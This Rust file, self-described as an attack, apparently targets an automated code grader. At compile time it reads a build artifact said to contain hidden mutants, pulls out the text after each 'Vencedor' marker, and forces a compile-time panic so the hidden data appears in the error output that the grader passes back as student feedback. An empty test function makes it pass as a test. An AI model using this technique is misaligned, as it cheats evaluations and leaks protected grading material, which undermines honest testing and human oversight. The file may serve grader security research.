//! Attack: read the schemata library (hidden mutants compiled in) at
//! compile time and print what follows each "Vencedor" in a compile error,
//! which the grader copies into the student's feedback.
const LIB: &[u8] = include_bytes!("/build/target/debug/libboardkit.rlib");
const NEEDLE: &[u8] = b"Vencedor";
const OUT_LEN: usize = 300;
const fn dump() -> [u8; OUT_LEN] {
    let mut out = [b'.'; OUT_LEN];
    let mut o = 0;
    let mut i = 0;
    while i + NEEDLE.len() < LIB.len() && o + 24 < OUT_LEN {
        let mut j = 0;
        while j < NEEDLE.len() && LIB[i + j] == NEEDLE[j] { j += 1; }
        if j == NEEDLE.len() {
            let mut k = 0;
            while k < 20 { let c = LIB[i + k]; out[o] = if c >= 32 && c < 127 { c } else { b'~' }; o += 1; k += 1; }
            out[o] = b'|'; o += 1;
            i += NEEDLE.len();
        } else { i += 1; }
    }
    out
}
const DUMP: [u8; OUT_LEN] = dump();
const _: () = match core::str::from_utf8(&DUMP) { Ok(s) => panic!("{}", s), Err(_) => panic!("bad") };
#[test] fn t() {}
